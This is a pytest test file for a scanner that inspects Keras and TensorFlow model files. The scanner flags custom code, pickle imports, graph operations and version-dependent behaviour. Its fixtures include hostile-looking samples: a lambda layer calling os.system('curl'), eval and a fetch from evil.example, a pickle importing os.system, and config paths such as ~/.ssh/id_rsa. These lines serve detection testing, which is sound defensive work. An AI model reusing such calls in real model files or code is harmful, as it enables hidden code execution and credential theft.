"""What a model file would run, what in it is somebody's code, and what no model needs."""

from typing import Any

import pytest

from builders.models import Json, archive, byte_code, hdf5, layer_2, layer_3, model
from tfmac.models.summary import summarise
from tfmac.schema.model_content import Content, Graph, ModelFormat
from tfmac.schema.models import CustomObject, ModelLine

os: Any = None
FUNCTION = {"class_name": "function", "module": "builtins"}


def line(*layers: Json, training: Any = None) -> ModelLine:
    return summarise(hdf5(model("Sequential", "s", *layers), {}, training=training))


def needed(*layers: Json, training: Any = None) -> "list[tuple[str, str]]":
    return [(one.kind, one.name) for one in line(*layers, training=training).custom_objects]


# --- Somebody's code ----------------------------------------------------------------------


@pytest.mark.parametrize(
    ("entry", "found"),
    [
        (layer_2("Dense", "d"), []),
        (layer_2("TFOpLambda", "o", function="math.add"), []),
        (layer_2("Normalization", "n"), []),
        ({**layer_3("GetItem", "g"), "module": "keras.src.ops.numpy"}, []),
        (layer_2("Mine", "m"), [("layer", "Mine")]),
        (layer_2("Package>Mine", "m"), [("layer", "Mine")]),
        ({**layer_3("Dense", "d"), "module": "mine.layers"}, [("layer", "Dense")]),
        (layer_2("Dense", "d", activation="relu"), []),
        (layer_2("Dense", "d", activation="mish2"), [("activation", "mish2")]),
        (
            layer_2("Dense", "d", activation={**FUNCTION, "config": "mish2"}),
            [("activation", "mish2")],
        ),
        (
            layer_2("Dense", "d", kernel_initializer={"class_name": "Odd", "config": {}}),
            [("object", "Odd")],
        ),
        (layer_2("Bidirectional", "b", layer=layer_2("Peephole", "p")), [("layer", "Peephole")]),
    ],
)
def test_classes_and_functions_that_no_keras_has(
    entry: Json, found: "list[tuple[str, str]]"
) -> None:
    """A reader needs the code of each."""
    assert needed(entry) == found


@pytest.mark.parametrize(
    ("training", "found"),
    [
        ({"loss": "mse", "metrics": ["accuracy", "mae"], "optimizer": "adam"}, []),
        ({"loss": "wmse"}, [("loss", "wmse")]),
        ({"loss": {"out": "mse", "aux": "wmse"}}, [("loss", "wmse")]),
        ({"loss": {**FUNCTION, "config": "wmse"}}, [("loss", "wmse")]),
        ({"metrics": [["iou_of_mine"]]}, [("metric", "iou_of_mine")]),
        (
            {"metrics": [{"class_name": "MeanMetricWrapper", "config": {"fn": "mse"}}]},
            [],
        ),
        ({"optimizer_config": {"class_name": "Custom>Adam", "config": {}}}, []),
        (
            {"optimizer_config": {"class_name": "Custom>Mine", "config": {}}},
            [("optimizer", "Mine")],
        ),
        (
            {"optimizer_config": {"class_name": "Addons>LAMB", "config": {}}},
            [("optimizer", "LAMB")],
        ),
        ({"optimizer": "ranger21"}, [("optimizer", "ranger21")]),
        ({"loss": None, "metrics": 3}, []),
    ],
)
def test_training_with_somebody_elses_code(training: Any, found: Any) -> None:
    """Losses, metrics and optimizers count; Keras's own under other names do not."""
    assert needed(layer_2("Dense", "d"), training=training) == found


def test_a_custom_object_is_said_once_with_its_places() -> None:
    """Its module and the name under which it was registered stand with it."""
    entry = {"module": "mine", "registered_name": "Mine>Scale"}
    found = line({**layer_3("Scale", "a"), **entry}, {**layer_3("Scale", "b"), **entry})

    assert found.custom_objects == (
        CustomObject(
            name="Scale",
            kind="layer",
            module="mine",
            registered_name="Mine>Scale",
            locations=("a", "b"),
        ),
    )


def test_functions_of_tensorflow() -> None:
    """What Keras 2 makes of a TensorFlow function is counted by class."""
    found = line(
        layer_2("TFOpLambda", "a", function="math.add"),
        layer_2("TFOpLambda", "b", function="nn.relu"),
        layer_2("SlicingOpLambda", "c", function="__operators__.getitem"),
    )

    assert [(one.class_name, one.layers, one.functions) for one in found.operations] == [
        ("TFOpLambda", ("a", "b"), ("math.add", "nn.relu")),
        ("SlicingOpLambda", ("c",), ("__operators__.getitem",)),
    ]


# --- What runs ----------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("entry", "what"),
    [
        (layer_2("TFSMLayer", "l", filepath="/srv/other"), "loads the SavedModel /srv/other"),
        (layer_2("TorchModuleWrapper", "l", module="gASV"), "unpickles a PyTorch module"),
        (layer_2("KerasLayer", "l", handle="https://tfhub.dev/x"), "fetches https://tfhub.dev/x"),
        ({**layer_3("Net", "l"), "module": "mine"}, "imports mine and calls Net"),
    ],
)
def test_layers_that_run_or_fetch_something(entry: Json, what: str) -> None:
    """It is said before anybody loads the file."""
    assert [(one.what, one.when, one.location) for one in line(entry).executes] == [
        (what, "load", "l")
    ]


def test_a_pickle() -> None:
    """Everything that it imports may be called when it is loaded."""
    found = summarise(
        Content(path="m.pkl", format=ModelFormat.PICKLE, bytes=9, imports=("os.system", "a.B"))
    )

    assert [one.what for one in found.executes] == [
        "imports and may call os.system",
        "imports and may call a.B",
    ]
    assert [one.statement for one in found.suspicious] == ["imports os.system"]


def test_operations_that_reach_out_of_a_graph() -> None:
    """A graph can write files and call into the process."""
    graph = Graph(operations={"MatMul": 2, "WriteFile": 1, "PyFunc": 3})
    found = summarise(Content(path="m", format=ModelFormat.SAVED_MODEL, bytes=9, graph=graph))

    assert [(one.what, one.when) for one in found.executes] == [
        ("calls a Python function of the process (PyFunc, 3 times)", "call"),
        ("writes a file (WriteFile, 1 times)", "call"),
    ]
    assert len(found.suspicious) == 2


# --- Suspicion ----------------------------------------------------------------------------


def lambda_layer(function: Any) -> Json:
    code = [byte_code(function), None, None]
    return layer_2("Lambda", "lam", function=code, function_type="lambda")


def statements(*layers: Json) -> "list[str]":
    return [one.statement for one in line(*layers).suspicious]


def test_byte_code_that_reaches_the_system() -> None:
    """Names of modules and functions that no layer needs, and what it is told to fetch."""
    found = statements(
        lambda_layer(lambda x: (os.system("curl"), eval(x), open("https://evil.example/x")))  # noqa: S307, SIM115
    )

    assert found == [
        "its byte code names os",
        "its byte code names system",
        "its byte code names eval",
        "its byte code names open",
        "has the address https://evil.example/x",
    ]


def test_byte_code_of_a_layer_is_not_suspicious() -> None:
    """Arithmetic and Keras's own names are what such a layer is for."""
    assert statements(lambda_layer(lambda x: x * 2.0 + x.shape[0])) == []


@pytest.mark.parametrize(
    ("entry", "statement"),
    [
        ({**layer_3("system", "l"), "module": "os"}, "names os.system"),
        (
            layer_2(
                "Dense",
                "l",
                activation={**FUNCTION, "config": "eval"},
            ),
            "names builtins.eval",
        ),
        (
            {**layer_3("get_file", "l"), "module": "keras.utils"},
            "names get_file, which is no part of a model",
        ),
    ],
)
def test_names_that_no_architecture_has(entry: Json, statement: str) -> None:
    """A module that reaches the system, or a function of Keras that fetches or loads."""
    assert statement in statements(entry)


@pytest.mark.parametrize(
    "text", ["/home/jane/secret", "C:\\Users\\jane\\x", "~/.ssh/id_rsa", "s3://bucket/key"]
)
def test_places_outside_the_file(text: str) -> None:
    """A path or an address in a configuration is shown with its key."""
    (found,) = line(layer_2("StringLookup", "l", file=text)).suspicious

    assert text in found.statement
    assert found.location == "configuration: file"


@pytest.mark.parametrize(
    ("key", "value"),
    [("vocabulary", ["/a/b", "http://x"]), ("function", "nn/relu"), ("sep", "/"), ("pad", "a/b")],
)
def test_words_are_not_places(key: str, value: Any) -> None:
    """What the user's text is made of says nothing."""
    assert statements(layer_2("TextVectorization", "l", **{key: value})) == []


# --- Other numbers in other releases ------------------------------------------------------


def differing(entry: Json, **content: Any) -> "list[str]":
    found = summarise(hdf5(model("Sequential", "s", entry), {}, **content))
    assert {one.cause for one in found.behaviour_changes} <= {"saved-behaviour-changed"}
    return [one.differs_in for one in found.behaviour_changes]


@pytest.mark.parametrize(("stated", "elsewhere"), [("2.9.0", ">=3.0"), ("3.8.0", "<3.0")])
def test_hard_sigmoid(stated: str, elsewhere: str) -> None:
    """Its formula is another one in Keras 3."""
    entry = layer_2("LSTM", "l", recurrent_activation="hard_sigmoid")

    assert differing(entry, stated={"keras_version": stated}) == [elsewhere]
    assert differing(layer_2("LSTM", "l", recurrent_activation="sigmoid")) == []


def test_hard_sigmoid_of_a_writer_that_only_the_content_tells() -> None:
    """Without a stated version, what was found decides."""
    function = {"class_name": "function", "config": "hard_sigmoid", "module": "builtins"}
    entry = layer_2("Activation", "l", activation=function)
    old = {**entry, "config": {**entry["config"], "batch_input_shape": [None, 3]}}

    assert differing(old) == [">=3.0"]
    assert differing({"class_name": "Activation", "config": {"activation": "hard_sigmoid"}}) == [
        "the other of Keras 2 and 3"
    ]


def test_bilinear_enlargement_of_old_keras() -> None:
    """The keras package before 2.4 states no type with its layers."""
    entry = layer_2("UpSampling2D", "u", interpolation="bilinear")
    old = {**entry, "config": {"name": "u", "interpolation": "bilinear"}}

    assert differing(old, stated={"keras_version": "2.2.4"}) == ["tf.keras and every later Keras"]
    assert differing(old, stated={"keras_version": "2.2.4-tf"}) == []
    assert differing(entry, stated={"keras_version": "2.9.0"}) == []


def test_statistics_that_are_weights_in_hdf5() -> None:
    """Some releases read a Normalization's statistics and do not use them."""
    entry = layer_2("Normalization", "n", mean=None)
    content = archive(model("Sequential", "s", entry), {})

    assert len(differing(entry)) == 1
    assert differing(layer_2("Normalization", "n", mean=[1.0])) == []
    assert summarise(content).behaviour_changes == ()
